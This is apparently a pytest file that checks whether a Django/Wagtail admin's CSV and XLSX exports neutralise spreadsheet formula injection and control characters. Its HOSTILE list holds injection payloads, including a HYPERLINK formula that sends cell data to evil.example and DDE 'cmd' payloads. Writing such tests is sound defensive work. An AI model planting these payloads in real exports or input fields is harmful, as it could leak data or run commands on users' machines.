"""Every CSV and XLSX export of the admin writes what people typed as plain text: no formula
runs in a spreadsheet program, and no character makes the export fail.

The exports are fetched for real (employees, the hours report, page feedback) and the files
parsed back; a walk over the admin's URLs makes sure no export of ours skips the safe values.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from django.db import connection
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cms.models import PageFeedback
from cms.spreadsheets import SafeSpreadsheetExportMixin
from tests.cms.factories import content_tree
from tests.excel import body, fetch_export, read_as_swedish_excel
from tests.factories import EmployeeFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(A1)",
]

# Every C0 control character, DEL, and Unicode that trips up XML, fonts or bidi handling.
# PostgreSQL cannot store NUL, so it is left out there (no person can type it into our data).
ODD_UNICODE = ["\x7f", "\x85", "\u200b", "\u2028", "\u202e", "\ufeff", "\ufffe", "\uffff", "🙂", "ﷺ"]


def control_characters() -> list[str]:
    first = 0 if connection.vendor == "sqlite" else 1
    return [chr(code) for code in range(first, 32)] + ODD_UNICODE


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return read_as_swedish_excel(body(response))


def xlsx_cells(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    return [list(row) for row in sheet.iter_rows()]


# --- The exports, with what a hostile or careless person could have typed into each ----------


def employee_export(client, texts, hr_user, workplace, other_workplace, **kwargs):
    for text in texts:
        EmployeeFactory(workplace=workplace, first_name=text, last_name="Ek")
    EmployeeFactory(workplace=other_workplace, first_name="=UTOMSTÅENDE()", last_name="Ek")
    client.force_login(hr_user)
    return reverse("employee:index")


def hours_export(client, texts, hr_user, workplace, other_workplace, **kwargs):
    for text in texts:
        EmployeeFactory(workplace=workplace, first_name=text, last_name="Ek")
    EmployeeFactory(workplace=other_workplace, first_name="=UTOMSTÅENDE()", last_name="Ek")
    client.force_login(hr_user)
    return reverse("sessions_hours_report")


def feedback_export(client, texts, editor, **kwargs):
    page = content_tree().segment
    for text in texts:
        PageFeedback.objects.create(page=page, comment=text, rating="partly")
    client.force_login(editor)
    return "/admin/page_feedback/"


EXPORTS = {"employees": employee_export, "hours": hours_export, "feedback": feedback_export}


@pytest.fixture
def export_url(request, client, hr_user, editor, workplace, other_workplace):
    def build(name: str, texts: list[str]) -> str:
        return EXPORTS[name](
            client, texts, hr_user=hr_user, editor=editor, workplace=workplace,
            other_workplace=other_workplace,
        )

    return build


def _exported_texts(cells: list[list], candidates: list[str]) -> list:
    """The cells that hold (a form of) one of the texts we put in."""
    found = []
    for row in cells:
        for value in row:
            text = value.value if hasattr(value, "value") else value
            if isinstance(text, str) and any(c.strip("\t\r") in text for c in candidates):
                found.append(value)
    return found


@pytest.fixture
def fetch(client, django_capture_on_commit_callbacks):
    """An export as its requester gets it: the file itself, or – for one built in the
    background – the job run and the file downloaded from its page."""
    def get(url: str):
        return fetch_export(client, url, django_capture_on_commit_callbacks)

    return get


@pytest.mark.parametrize("name", EXPORTS)
def test_csv_export_writes_formulas_as_apostrophe_text(client, export_url, name):
    url = export_url(name, HOSTILE)
    cells = csv_cells(client.get(url + "?export=csv"))
    exported = {value for row in cells for value in row}
    for text in HOSTILE:  # the hours report writes full names: "<first name> Ek"
        assert any(value.startswith("'" + text) for value in exported), f"{text!r} in the {name} CSV"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in exported if value)
    assert "'=UTOMSTÅENDE()" not in exported  # scope still applies to the export


@pytest.mark.parametrize("name", EXPORTS)
def test_xlsx_export_has_no_formula_cell(fetch, export_url, name):
    url = export_url(name, HOSTILE)
    cells = xlsx_cells(fetch(url + "?export=xlsx"))
    assert all(cell.data_type != "f" for row in cells for cell in row)
    values = {cell.value for row in cells for cell in row}
    for text in HOSTILE:
        core = text.lstrip("\t\r")
        assert any(isinstance(v, str) and core in v and v.lstrip("\t\r\n").startswith(core) for v in values), text


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name", EXPORTS)
def test_every_control_character_survives_the_export(fetch, export_url, name, export_format):
    texts = [f"Kontroll{char}Tecken" for char in control_characters()]
    url = export_url(name, texts)
    response = fetch(f"{url}?export={export_format}")
    cells = csv_cells(response) if export_format == "csv" else xlsx_cells(response)
    found = _exported_texts(cells, ["Kontroll"])
    assert len(found) == len(texts), "one exported cell per text, none lost"
    for cell in found:
        text = cell if isinstance(cell, str) else cell.value
        assert text.startswith("Kontroll") and "Tecken" in text
        # What XML 1.0 cannot hold is shown as U+FFFD, never dropped silently.
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in text)


# --- No export of ours can leave the safe values out -----------------------------------------

OUR_APPS = ("cms", "people", "courses", "sessions", "surveys")
OUR_LABELS = {"cms", "people", "courses", "dialogue_sessions", "surveys"}


def _admin_views(resolver: URLResolver, prefix: str = ""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _admin_views(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is not None:
                yield prefix + str(pattern.pattern), view_class, pattern.callback.view_initkwargs


def test_every_admin_export_of_ours_goes_through_the_safe_values():
    exporting = []
    for route, view_class, initkwargs in _admin_views(get_resolver()):
        exports = (
            initkwargs.get("list_export") or getattr(view_class, "list_export", None)
            or getattr(view_class, "show_export_buttons", None) is True  # an export of its own (cms.exports)
        )
        if not issubclass(view_class, SpreadsheetExportMixin) or not exports:
            continue
        model = initkwargs.get("model")
        ours = view_class.__module__.split(".")[0] in OUR_APPS or (
            model is not None and model._meta.app_label in OUR_LABELS
        )
        if ours:
            exporting.append((route, view_class))
    unsafe = [route for route, view_class in exporting if not issubclass(view_class, SafeSpreadsheetExportMixin)]
    assert unsafe == []
    routes = {route for route, _ in exporting}
    # The walk does find the exports we know of (so it cannot pass by finding nothing).
    known = {reverse("employee:index"), reverse("sessions_hours_report"), "/admin/page_feedback/"}
    assert known <= {"/" + route for route in routes}
